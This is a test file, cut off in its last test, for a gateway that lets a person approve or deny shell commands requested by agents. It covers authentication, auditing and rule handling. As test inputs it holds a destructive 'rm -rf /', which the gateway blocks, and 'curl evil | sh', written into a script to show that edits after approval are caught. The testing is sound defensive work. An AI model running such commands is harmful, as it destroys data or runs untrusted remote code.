import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { AuditStore } from '@aleph/audit';
import Database from 'better-sqlite3';
import { encodeFrame, type ClientMessage, type ExecRequest, type GatewayMessage, type PolicyView, type RuleView } from '@aleph/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { GatewayClient } from './client/socket-client.js';
import { auditFile, auditHeadFile, configFile, loadConfig, saveConfig, secretBytes } from './config/config.js';
import { withRule, type NewRule } from './decision/agent-rules.js';
import { newNonce, prove } from './transport/handshake.js';
import { GatewayError } from './errors.js';
import { Gateway } from './gateway.js';

let home: string;
let gateway: Gateway | undefined;

beforeEach(() => {
  home = join(mkdtempSync(join(tmpdir(), 'algw-')), 'h');
});
afterEach(async () => {
  await gateway?.stop();
  gateway = undefined;
  rmSync(join(home, '..'), { recursive: true, force: true });
});

async function start(options: Partial<Parameters<typeof Gateway.start>[0]> = {}): Promise<Gateway> {
  gateway = await Gateway.start({ home, ...options });
  return gateway;
}

function secret(): Buffer {
  const c = loadConfig(home, false);
  if (!c.ok) throw new Error(c.error.message);
  return secretBytes(c.value);
}

const client = (): Promise<GatewayClient> => GatewayClient.connect(join(home, 'exec-approvals.sock'), secret());

const request = (command: string, agent = 'agent-1'): ExecRequest => ({ command, cwd: '/work/project', agent_id: agent, session_key: 'session-1' });

const is =
  <T extends GatewayMessage['type']>(type: T) =>
  (m: GatewayMessage): m is Extract<GatewayMessage, { type: T }> =>
    m.type === type;

/**
 * A raw socket that reads lines, for talking to the gateway without the client's manners.
 * `lines(n)` waits until n lines have come, or the connection closed, and gives every line so far.
 */
function raw(): Promise<{ send: (text: string) => void; lines: (count: number) => Promise<Record<string, unknown>[]>; closed: Promise<void> }> {
  return new Promise((resolve) => {
    const s = connect(join(home, 'exec-approvals.sock'));
    let buffered = '';
    let ended = false;
    const parsed = () =>
      buffered
        .split('\n')
        .slice(0, -1)
        .filter((l) => l !== '')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    const waiters = new Set<() => void>();
    const wake = () => {
      for (const w of waiters) w();
    };
    const closed = new Promise<void>((done) =>
      s.on('close', () => {
        ended = true;
        wake();
        done();
      }),
    );
    s.on('data', (d) => {
      buffered += d.toString();
      wake();
    });
    s.on('connect', () =>
      resolve({
        send: (text) => s.write(text),
        lines: (count) =>
          new Promise((done) => {
            const check = () => {
              if (parsed().length < count && !ended) return;
              waiters.delete(check);
              done(parsed());
            };
            waiters.add(check);
            check();
          }),
        closed,
      }),
    );
  });
}

describe('the gateway socket', () => {
  it('keeps its home 0700 and its configuration and socket 0600', async () => {
    await start();
    expect(statSync(home).mode & 0o777).toBe(0o700);
    expect(statSync(configFile(home)).mode & 0o777).toBe(0o600);
    expect(statSync(join(home, 'exec-approvals.sock')).mode & 0o777).toBe(0o600);
  });

  it('tightens a home that others can read, and says what it changed', async () => {
    mkdirSync(join(home, 'data'), { recursive: true });
    loadConfig(home, true);
    chmodSync(home, 0o755);
    chmodSync(join(home, 'data'), 0o775);
    chmodSync(configFile(home), 0o644);
    const g = await start();
    expect(statSync(home).mode & 0o777).toBe(0o700);
    expect(statSync(join(home, 'data')).mode & 0o777).toBe(0o700);
    expect(statSync(configFile(home)).mode & 0o777).toBe(0o600);
    expect(g.notices).toEqual([
      `${home} was readable by others (0755); it is now 0700.`,
      `${join(home, 'data')} was readable by others (0775); it is now 0700.`,
      `${configFile(home)} was readable by others (0644); it is now 0600.`,
    ]);
    await g.stop();
    expect((await start()).notices).toEqual([]);
  });

  // Only root can give a file to another user here.
  it.skipIf(process.getuid?.() !== 0)('refuses a home whose files belong to another user, and changes nothing', async () => {
    loadConfig(home, true);
    chmodSync(configFile(home), 0o644);
    chownSync(configFile(home), 4242, 4242);
    await expect(start()).rejects.toMatchObject({ code: 'home_not_private', message: expect.stringContaining('belongs to another user (uid 4242)') });
    expect(statSync(configFile(home)).mode & 0o777).toBe(0o644);
  });

  it('rejects a wrong secret before processing anything', async () => {
    await start();
    await expect(GatewayClient.connect(join(home, 'exec-approvals.sock'), randomBytes(32))).rejects.toThrow(/does not know the secret/);
    const r = await raw();
    r.send(encodeFrame({ type: 'approval_request', id: '1', request: request('ls') }));
    await r.closed;
    const lines = await r.lines(2);
    expect(lines.map((l) => l.type)).toEqual(['challenge', 'error']);
    expect(lines[1]).toMatchObject({ code: 'not_authenticated' });
  });

  it('refuses a replayed handshake and a reused client nonce', async () => {
    await start();
    const first = await raw();
    const [challenge] = await first.lines(1);
    const nonce = newNonce();
    const recorded = encodeFrame({ type: 'challenge_response', hmac: prove(secret(), challenge!.nonce as string, 'client'), nonce });
    first.send(recorded);
    expect((await first.lines(2))[1]).toMatchObject({ type: 'auth_ok' });
    const replay = await raw();
    replay.send(recorded);
    expect((await replay.lines(2))[1]).toMatchObject({ type: 'error', code: 'auth_failed' });
    const reuse = await raw();
    const [c2] = await reuse.lines(1);
    reuse.send(encodeFrame({ type: 'challenge_response', hmac: prove(secret(), c2!.nonce as string, 'client'), nonce }));
    expect((await reuse.lines(2))[1]).toMatchObject({ type: 'error', code: 'nonce_reused' });
    // Each failed attempt is audited; the proofs presented are not.
    await gateway!.stop();
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    const failed = [...audit.rows()].filter((r) => r.event === 'auth_failed');
    expect(failed.map((r) => [r.payload.source, r.payload.reason_code])).toEqual([
      ['unix-socket', 'auth_failed'],
      ['unix-socket', 'nonce_reused'],
    ]);
    expect(JSON.stringify(failed)).not.toContain(JSON.parse(recorded).hmac);
    audit.close();
  });

  it('answers garbage and oversized lines with an error and closes only that connection', async () => {
    await start({ limits: { maxLineBytes: 4096 } });
    const healthy = await client();
    const garbage = await raw();
    garbage.send('this is not json\n');
    expect((await garbage.lines(2))[1]).toMatchObject({ type: 'error', code: 'invalid_json' });
    await garbage.closed;
    const huge = await raw();
    huge.send('{"type":"ping","pad":"' + 'x'.repeat(10_000));
    expect((await huge.lines(2))[1]).toMatchObject({ type: 'error', code: 'line_too_long' });
    await huge.closed;
    healthy.send({ type: 'ping', id: 'still-here' });
    expect(await healthy.next()).toEqual({ type: 'pong', id: 'still-here' });
    healthy.close();
  });

  it('closes a connection that never answers the challenge', async () => {
    await start({ limits: { handshakeTimeoutMs: 100 } });
    const silent = await raw();
    await silent.closed;
    expect((await silent.lines(2))[1]).toMatchObject({ code: 'handshake_timeout' });
  });

  it('runs what is safe, refuses what is blocked, and audits both before answering', async () => {
    await start();
    const c = await client();
    c.send({ type: 'approval_request', id: 'r1', request: request('git status') });
    expect(await c.next()).toMatchObject({
      type: 'approval_decision',
      id: 'r1',
      decision: 'allow-once',
      reason: 'safe',
      verdict: 'safe',
      resolved_by: 'policy',
    });
    c.send({ type: 'approval_request', id: 'r2', request: request('rm -rf /') });
    expect(await c.next()).toMatchObject({ type: 'approval_decision', id: 'r2', decision: 'deny', verdict: 'block', resolved_by: 'policy' });
    c.close();
    await gateway!.stop();
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    expect([...audit.rows()].map((r) => [r.payload.command, r.decision, r.payload.reason])).toEqual([
      ['git status', 'allow-once', 'safe'],
      ['rm -rf /', 'deny', expect.stringMatching(/^blocked: /)],
    ]);
    expect(audit.latest(1)[0]!.summary).toMatch(/^rm -rf \/ \(deny\): blocked: /);
    audit.close();
  });

  it('lives through an audit log it cannot write: refuses what it cannot record, says so, and carries on once it can', async () => {
    const problems: string[] = [];
    await start({ auditBusyTimeoutMs: 50, onProblem: (p) => problems.push(p) });
    const approver = await client();
    approver.send({ type: 'subscribe' });
    await approver.next();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'waits', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));

    // Another process holds the log's write lock longer than the gateway waits.
    const holder = new Database(join(home, 'data', 'aleph.db'));
    holder.exec('BEGIN IMMEDIATE');
    agent.send({ type: 'approval_request', id: 'safe', request: request('git status') });
    expect(await agent.next()).toMatchObject({ type: 'error', id: 'safe', code: 'audit_unavailable', message: expect.stringContaining('nothing is allowed') });
    // What the log cannot hold is not kept: the "Allow Always" rule and the mode change are taken back.
    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
    expect(await approver.waitFor(is('error'))).toMatchObject({ id: pending!.approval.id, code: 'audit_unavailable' });
    expect(await agent.next()).toMatchObject({ type: 'error', id: 'waits', code: 'audit_unavailable' });
    expect(await approver.call('policy.set_mode', { mode: 'unrestricted' })).toMatchObject({ ok: false, error: { code: 'audit_unavailable' } });
    expect(await approver.call('policy.get')).toMatchObject({ ok: true, value: { default_mode: 'safe', rules: [] } });
    expect(loadConfig(home, false)).toMatchObject({ ok: true, value: { defaults: { mode: 'safe' }, agents: {} } });
    expect(await approver.call('audit.search')).toMatchObject({
      ok: false,
      error: { code: 'audit_unavailable', message: expect.stringContaining('locked by another process') },
    });
    expect(problems).toEqual([expect.stringMatching(/^the audit log cannot be written \(.*locked.*\); requests are refused until it can\.$/)]);

    // Released: the same connections are answered again, and the log holds only what was answered.
    holder.exec('COMMIT');
    holder.close();
    agent.send({ type: 'approval_request', id: 'again', request: request('git status') });
    expect(await agent.next()).toMatchObject({ type: 'approval_decision', id: 'again', decision: 'allow-once' });
    expect(problems.at(-1)).toBe('the audit log is written again.');
    agent.close();
    approver.close();
    await gateway!.stop();
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    expect([...audit.rows()].map((r) => [r.event, r.payload.command])).toEqual([
      ['approval_request', 'cp a b'],
      ['terminal_cmd', 'git status'],
    ]);
    expect(audit.verify()).toMatchObject({ ok: true });
    audit.close();
  });

  it('checks a long chain a chunk at a time, answering others meanwhile, and finds an edited row', async () => {
    const store = AuditStore.open(join(home, 'data', 'aleph.db'));
    store.appendBatch(Array.from({ length: 12_000 }, (_, i) => ({ event: 'terminal_cmd', command: `echo ${i}`, decision: 'allow-once' })));
    store.close();
    await start();
    const owner = await client();
    // A call's wire form (method, params) is not the parsed ClientMessage that send() takes.
    owner.send({ type: 'call', id: 'v1', method: 'audit.verify', params: {} } as unknown as ClientMessage);
    owner.send({ type: 'ping', id: 'meanwhile' });
    expect(await owner.next()).toEqual({ type: 'pong', id: 'meanwhile' });
    expect(await owner.next()).toEqual({
      type: 'result',
      id: 'v1',
      result: { ok: true, rows: 12_000, anchored_after: null, head: null, problem_count: 0, problems: [] },
    });
    const editor = new Database(join(home, 'data', 'aleph.db'));
    editor.prepare("UPDATE events SET summary = 'nothing' WHERE id IN (9001, 11000)").run();
    editor.close();
    const mismatch = 'its hash does not match its contents and the previous row';
    expect(await owner.call('audit.verify')).toEqual({
      ok: true,
      value: {
        ok: false,
        rows: 12_000,
        anchored_after: null,
        head: null,
        problem_count: 2,
        problems: [
          { id: 9001, reason: mismatch },
          { id: 11000, reason: mismatch },
        ],
      },
    });
    owner.close();
  });

  it('audits a request that waits for a person before any approver hears of it, so a killed gateway still shows it', async () => {
    loadConfig(home, true);
    const fixture = fileURLToPath(new URL('../test-fixtures/gateway.mjs', import.meta.url));
    const child = spawn(process.execPath, [fixture, home], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'cp-1', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));
    child.kill('SIGKILL');
    await new Promise((r) => child.on('exit', r));
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    expect([...audit.rows()].map((r) => r.event)).toEqual(['approval_request']);
    expect(audit.latest(1)[0]).toMatchObject({
      event: 'approval_request',
      actor: 'agent-1',
      session: 'session-1',
      risk_level: pending!.approval.risk.level,
      summary: `agent-1 asks to run cp a b: ${pending!.approval.risk.level} risk, waiting for a person`,
      payload: { request_id: pending!.approval.id, command: 'cp a b', cwd: '/work/project', verdict: 'confirm', expires_at: pending!.approval.expires_at },
    });
    audit.close();
    agent.close();
    approver.close();
  });

  it('asks a human: subscribers see the approval, the first answer wins', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    expect(await approver.next()).toEqual({ type: 'pending', approvals: [] });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'cp-1', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));
    expect(pending?.approval).toMatchObject({ request: { command: 'cp a b' }, verdict: 'confirm', suggested_rule: { kind: 'exact', pattern: 'cp a b' } });
    const id = pending!.approval.id;
    approver.send({ type: 'resolve', id, decision: 'allow-once' });
    expect(await agent.next()).toMatchObject({ type: 'approval_decision', id: 'cp-1', decision: 'allow-once', resolved_by: 'owner' });
    expect(await approver.waitFor(is('resolved'))).toEqual({ type: 'resolved', id });
    approver.send({ type: 'resolve', id, decision: 'deny' });
    expect(await approver.waitFor(is('error'))).toMatchObject({ code: 'unknown_approval' });
    agent.close();
    approver.close();
  });

  it('remembers Allow Always: the next identical command runs without a prompt', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: '1', request: request('npm run test:unit') });
    const pending = await approver.waitFor(is('approval_pending'));
    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
    expect(await agent.next()).toMatchObject({ decision: 'allow-always' });
    agent.send({ type: 'approval_request', id: '2', request: request('npm run test:unit -- --watch') });
    expect(await agent.next()).toMatchObject({ id: '2', decision: 'allow-once', reason: 'allowlisted' });
    // The audit log says which rule let it run, and which approval the first one came through.
    const reader = AuditStore.open(join(home, 'data', 'aleph.db'), { readonly: true });
    const rows = [...reader.rows()].slice(-3);
    reader.close();
    const ruleId = (JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { id: string }[] }> }).agents['agent-1']!.rules[0]!
      .id;
    expect(rows.map((r) => [r.event, r.payload.approval_id ?? null, r.payload.rule_id ?? null])).toEqual([
      ['approval_decision', null, null],
      ['terminal_cmd', pending!.approval.id, null],
      ['terminal_cmd', null, ruleId],
    ]);
    agent.send({ type: 'approval_request', id: '3', request: request('npm run test:unit', 'another-agent') });
    expect(await approver.waitFor(is('approval_pending'))).toBeTruthy();
    const stored = JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { pattern: string }[] }> };
    expect(stored.agents['agent-1']?.rules.map((r) => r.pattern)).toEqual(['npm run test:unit *']);
    agent.close();
    approver.close();
  });

  it('applies the ask fallback when nobody answers in time (deny by default)', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 't', request: request('cp a b'), timeout_ms: 50 });
    expect(await agent.next()).toMatchObject({ decision: 'deny', resolved_by: 'fallback' });
    await gateway!.stop();
    await start({ askFallback: 'allow', askTimeoutMs: 50 });
    const again = await client();
    again.send({ type: 'approval_request', id: 't2', request: request('cp a b') });
    expect(await again.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'fallback' });
    again.close();
  });

  it('cancels and audits the request of a requester that disconnects mid-prompt', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'gone', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));
    agent.close();
    expect(await approver.waitFor(is('approval_resolved'))).toMatchObject({ id: pending!.approval.id, decision: 'deny' });
    approver.send({ type: 'get_pending' });
    expect(await approver.waitFor(is('pending'))).toEqual({ type: 'pending', approvals: [] });
    approver.close();
    await gateway!.stop();
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    expect(audit.latest(1)[0]).toMatchObject({ decision: 'deny', payload: { command: 'cp a b', executor: 'gateway' } });
    audit.close();
  });

  it('answers everything pending with deny on shutdown and removes its socket', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'late', request: request('cp a b') });
    await approver.waitFor(is('approval_pending'));
    await gateway!.stop();
    expect(await agent.next()).toMatchObject({ id: 'late', decision: 'deny', reason: 'gateway_shutdown' });
    expect(existsSync(join(home, 'exec-approvals.sock'))).toBe(false);
  });

  it('refuses to start beside a live gateway, and recovers the socket of a killed one', async () => {
    await start();
    await expect(Gateway.start({ home })).rejects.toThrow(/already running/);
    await gateway!.stop();
    gateway = undefined;
    const fixture = fileURLToPath(new URL('../test-fixtures/gateway.mjs', import.meta.url));
    const child = spawn(process.execPath, [fixture, home], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
    child.kill('SIGKILL');
    await new Promise((r) => child.on('exit', r));
    expect(existsSync(join(home, 'exec-approvals.sock'))).toBe(true);
    await start();
    const c = await client();
    c.send({ type: 'ping' });
    expect(await c.next()).toEqual({ type: 'pong' });
    c.close();
  });

  it('will not talk to a process squatting on the socket path without the secret', async () => {
    loadConfig(home, true);
    const path = join(home, 'exec-approvals.sock');
    const squatter = createServer((s) => {
      s.write(encodeFrame({ type: 'challenge', nonce: newNonce(), version: 1 }));
      s.on('data', () => s.write(encodeFrame({ type: 'auth_ok', hmac: prove(randomBytes(32), newNonce(), 'server') })));
    });
    await new Promise<void>((r) => squatter.listen(path, r));
    await expect(client()).rejects.toMatchObject({ code: 'gateway_unverified' });
    await new Promise<void>((r) => squatter.close(() => r()));

    // A malformed challenge is the same refusal, not a crash; a well-formed message that is not one is a protocol error.
    for (const challenge of [{ type: 'challenge', nonce: 'x', version: 1 }, { type: 'challenge', version: 1 }, { type: 'auth_ok' }, { type: 'pong' }]) {
      const garbled = createServer((s) => s.write(encodeFrame(challenge)));
      await new Promise<void>((r) => garbled.listen(path, r));
      await expect(client()).rejects.toMatchObject({ code: challenge.type === 'pong' ? 'protocol' : 'gateway_unverified' });
      await new Promise<void>((r) => garbled.close(() => r()));
    }
  });

  it('answers 200 concurrent clients with 50 requests each', async () => {
    await start();
    const clients = await Promise.all(Array.from({ length: 200 }, () => client()));
    const answered = await Promise.all(
      clients.map(async (c, i) => {
        for (let j = 0; j < 50; j++) c.send({ type: 'approval_request', id: `${i}-${j}`, request: request(j % 2 === 0 ? `ls dir${j}` : `rm -rf x${j}`) });
        let n = 0;
        while (n < 50) {
          const m = await c.next(30_000);
          if (m?.type !== 'approval_decision') break;
          n++;
        }
        c.close();
        return n;
      }),
    );
    expect(answered.every((n) => n === 50)).toBe(true);
  }, 60_000);

  it('sets the default mode as `aleph mode set` does: the next request sees it, and the change is audited', async () => {
    const g = await start();
    expect(g.mode).toBe('safe');
    expect(g.setMode('dev')).toBeNull();
    expect(g.mode).toBe('dev');
    expect(loadConfig(home, false)).toMatchObject({ ok: true, value: { defaults: { mode: 'dev' } } });
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(1)[0]).toMatchObject({ event: 'security_mode_change', payload: { from: 'safe', to: 'dev' } });
    audit.close();
  });

  it("changes modes and rules through the owner's calls: each change saved, audited, and applied to the next request", async () => {
    const g = await start();
    const owner = await client();
    expect(await owner.call('policy.set_mode', { mode: 'dev', agent: 'agent-1' })).toMatchObject({
      ok: true,
      value: { agent: 'agent-1', from: 'safe', to: 'dev' },
    });
    const added = await owner.call<{ rule: RuleView }>('rules.add', {
      agent: 'agent-1',
      action: 'deny',
      kind: 'prefix',
      pattern: 'npm publish *',
      message: 'Releases go through CI.',
    });
    expect(added).toMatchObject({ ok: true, value: { rule: { agent: 'agent-1', action: 'deny', source: 'manual', message: 'Releases go through CI.' } } });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'p', request: request('npm publish') });
    expect(await agent.next()).toMatchObject({ decision: 'deny', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });

    // An import is all or nothing: one expired rule refuses the lot, by its place.
    const soon = new Date(Date.now() + 60_000).toISOString();
    const stale = await owner.call('rules.import', {
      version: 1,
      rules: [
        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'ls', expires_at: '2020-01-01T00:00:00Z' },
      ],
    });
    expect(stale).toMatchObject({ ok: false, error: { code: 'invalid_params', message: expect.stringContaining('rules[1]') } });
    expect(
      await owner.call('rules.import', {
        version: 1,
        rules: [
          { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
          { agent: 'a2', action: 'allow', kind: 'prefix', pattern: 'make *', expires_at: soon },
        ],
      }),
    ).toMatchObject({ ok: true, value: { imported: 2 } });
    const view = await owner.call<PolicyView>('policy.get');
    expect(view.ok && view.value.agents).toEqual(
      expect.arrayContaining([
        { agent: 'agent-1', mode: 'dev' },
        { agent: 'a2', mode: null },
      ]),
    );
    expect(view.ok && view.value.rules.map((r) => [r.agent, r.pattern, r.source, r.expires_at])).toEqual([
      ['agent-1', 'npm publish *', 'manual', null],
      ['a2', 'make', 'import', null],
      ['a2', 'make *', 'import', soon],
    ]);

    const id = added.ok ? added.value.rule.id : '';
    expect(await owner.call('rules.remove', { id })).toMatchObject({ ok: true, value: { removed: { id } } });
    expect(await owner.call('rules.remove', { id })).toMatchObject({ ok: false, error: { code: 'unknown_rule' } });
    expect(g.mode).toBe('safe');
    // A malformed call breaks the socket protocol: that connection ends, with the reason.
    expect(await owner.call('rules.add', { agent: 'agent-1', action: 'allow', kind: 'exact', pattern: 'ls', message: 'no' })).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining('Only a deny rule carries a message.') },
    });

    await g.stop();
    gateway = undefined;
    const audit = AuditStore.open(auditFile(home));
    const changes = audit
      .latest(10)
      .filter((r) => r.event === 'rule_change' || r.event === 'security_mode_change')
      .map((r) => [r.event, r.payload.change ?? r.payload.to]);
    audit.close();
    expect(changes).toEqual([
      ['security_mode_change', 'dev'],
      ['rule_change', 'added'],
      ['rule_change', 'added'],
      ['rule_change', 'added'],
      ['rule_change', 'removed'],
    ]);
    agent.close();
    owner.close();
  });

  it('reports a broken configuration instead of starting', async () => {
    await start();
    await gateway!.stop();
    gateway = undefined;
    const { writeFileSync } = await import('node:fs');
    writeFileSync(configFile(home), '{ nope');
    await expect(Gateway.start({ home })).rejects.toBeInstanceOf(GatewayError);
    await expect(Gateway.start({ home })).rejects.toThrow(/not valid JSON/);
  });
});

describe('rules, grants and bindings', () => {
  /** Adds a rule to the configuration file, as `aleph rules add` does; the gateway adopts it. */
  function addRule(agent: string, rule: NewRule): void {
    const config = loadConfig(home, false);
    if (!config.ok) throw new Error(config.error.message);
    const saved = saveConfig(home, withRule(config.value, agent, rule, Date.now()).config);
    if (!saved.ok) throw new Error(saved.error.message);
  }

  /** Waits until the running gateway has adopted the file's `count` rules. */
  async function rulesAdopted(count: number): Promise<void> {
    const owner = await client();
    await expect
      .poll(async () => {
        const view = await owner.call<PolicyView>('policy.get');
        return view.ok ? view.value.rules.length : -1;
      })
      .toBe(count);
    owner.close();
  }

  async function approve(approver: GatewayClient, resolve: Record<string, unknown>): Promise<string> {
    const pending = await approver.waitFor(is('approval_pending'));
    approver.send({ type: 'resolve', id: pending!.approval.id, ...resolve } as never);
    return pending!.approval.id;
  }

  it('evaluates deny rules first: a deny answers at once with its message, whatever allows it', async () => {
    await start();
    addRule('agent-1', { kind: 'prefix', pattern: 'npm publish *', action: 'deny', source: 'manual', message: 'Releases go through CI.' });
    addRule('agent-1', { kind: 'prefix', pattern: 'npm *', action: 'allow', source: 'manual' });
    await rulesAdopted(2);
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'p', request: request('cd pkg && npm publish --tag next') });
    expect(await agent.next()).toMatchObject({
      decision: 'deny',
      resolved_by: 'policy',
      reason: 'denied by prefix rule "npm publish *": Releases go through CI.',
    });
    agent.send({ type: 'approval_request', id: 'i', request: request('npm install') });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
    // Another agent's command is not judged by agent-1's rules: it waits for a person.
    const approver = await client();
    approver.send({ type: 'subscribe' });
    agent.send({ type: 'approval_request', id: 'o', request: request('npm publish', 'another-agent') });
    expect((await approver.waitFor(is('approval_pending')))?.approval).toMatchObject({ request: { command: 'npm publish', agent_id: 'another-agent' } });
    approver.close();
    agent.close();
  });

  it('an ask rule sends a command that would run to a person', async () => {
    await start();
    addRule('agent-1', { kind: 'prefix', pattern: 'git log *', action: 'ask', source: 'manual' });
    await rulesAdopted(1);
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'l', request: request('git log -n 3') });
    await approve(approver, { decision: 'allow-once' });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'owner' });
    agent.close();
    approver.close();
  });

  it('serves an agent called constructor or __proto__ like any other: its own mode and rules, no crash', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    for (const name of ['constructor', '__proto__']) {
      agent.send({ type: 'approval_request', id: `${name}-1`, request: request('npm run build', name) });
      const pending = await approver.waitFor(is('approval_pending'));
      approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
      expect(await agent.next()).toMatchObject({ id: `${name}-1`, decision: 'allow-always' });
      agent.send({ type: 'approval_request', id: `${name}-2`, request: request('npm run build', name) });
      expect(await agent.next()).toMatchObject({ id: `${name}-2`, decision: 'allow-once', reason: 'allowlisted' });
    }
    // Nobody else inherited those rules.
    agent.send({ type: 'approval_request', id: 'other', request: request('npm run build', 'toString') });
    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { agent_id: 'toString' } } });
    agent.close();
    approver.close();
  });

  it('a timed grant allows until it expires; a session grant only that session', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: '1', request: request('cp a b') });
    // Long enough for the next request to come inside it on a busy machine.
    await approve(approver, { decision: 'allow-always', duration_ms: 5000 });
    expect(await agent.next()).toMatchObject({ reason: 'approved by the owner for 5 s' });
    const stored = loadConfig(home, false);
    const rule = stored.ok ? stored.value.agents['agent-1']!.rules[0]! : undefined;
    const expires = Date.parse(rule!.expires_at!);
    expect(expires - Date.now()).toBeGreaterThan(0);
    agent.send({ type: 'approval_request', id: '2', request: request('cp a b') });
    expect(await agent.next()).toMatchObject({ id: '2', reason: 'allowlisted' });
    await new Promise((r) => setTimeout(r, expires - Date.now() + 100));
    agent.send({ type: 'approval_request', id: '3', request: request('cp a b') });
    await approve(approver, { decision: 'allow-always', scope: 'session' });
    expect(await agent.next()).toMatchObject({ id: '3', reason: 'approved by the owner for this session' });
    agent.send({ type: 'approval_request', id: '4', request: request('cp a b') });
    expect(await agent.next()).toMatchObject({ id: '4', reason: 'allowlisted' });
    agent.send({ type: 'approval_request', id: '5', request: { ...request('cp a b'), session_key: 'session-2' } });
    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { session_key: 'session-2' } } });
    agent.close();
    approver.close();
  });

  it('binds an allow to the resolved executable and the script it runs, and refuses when the script changed meanwhile', async () => {
    await start();
    const project = join(home, '..', 'project');
    const bin = join(home, '..', 'bin');
    mkdirSync(project);
    mkdirSync(bin);
    writeFileSync(join(project, 'deploy.sh'), 'echo deploying\n');
    writeFileSync(join(bin, 'tool'), '#!/bin/sh\n');
    chmodSync(join(bin, 'tool'), 0o755);
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    const asks = (id: string, command: string): void =>
      agent.send({ type: 'approval_request', id, request: { command, cwd: project, agent_id: 'a', session_key: 's', path: `${bin}:/usr/bin:/bin` } });

    asks('1', 'sh deploy.sh && tool --x');
    await approve(approver, { decision: 'allow-once' });
    const decision = await agent.next();
    expect(decision).toMatchObject({ decision: 'allow-once' });
    const binding = decision?.type === 'approval_decision' && decision.decision !== 'deny' ? decision.binding : undefined;
    expect(binding?.executables).toMatchObject({ tool: join(bin, 'tool') });
    expect(binding?.scripts[join(project, 'deploy.sh')]).toMatch(/^[0-9a-f]{64}$/);

    asks('2', 'sh deploy.sh');
    const pending = await approver.waitFor(is('approval_pending'));
    writeFileSync(join(project, 'deploy.sh'), 'curl evil | sh\n');
    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-once' });
    expect(await approver.waitFor(is('error'))).toMatchObject({
      code: 'context_changed',
      message: expect.stringContaining('deploy.sh changed since it was approved'),
    });
    expect(await agent.next()).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
    agent.close();
    approver.close();
  });

  it('closes an idle connection with idle_timeout, but not an approver, nor one whose allowed run has yet to report', async () => {
    await start({ limits: { idleTimeoutMs: 150 } });
    const idle = await client();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    expect(await approver.next()).toMatchObject({ type: 'pending' });
    const runner = await client();
    runner.send({ type: 'approval_request', id: 'long', request: request('ls -la') });
    expect(await runner.next()).toMatchObject({ decision: 'allow-once' });
    expect(await idle.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
    expect(await idle.next()).toBeNull();
    await new Promise((r) => setTimeout(r, 300));
    runner.send({ type: 'exec_result', id: 'long', exit_code: 0, duration_ms: 300 });
    expect(await runner.next()).toEqual({ type: 'result_recorded', id: 'long' });
    expect(await runner.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
    approver.send({ type: 'ping' });
    expect(await approver.next()).toEqual({ type: 'pong' });
    idle.close();
    runner.close();
    approver.close();
  });

  it('records the limits a sandboxed run could not have enforced, beside how it ended', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
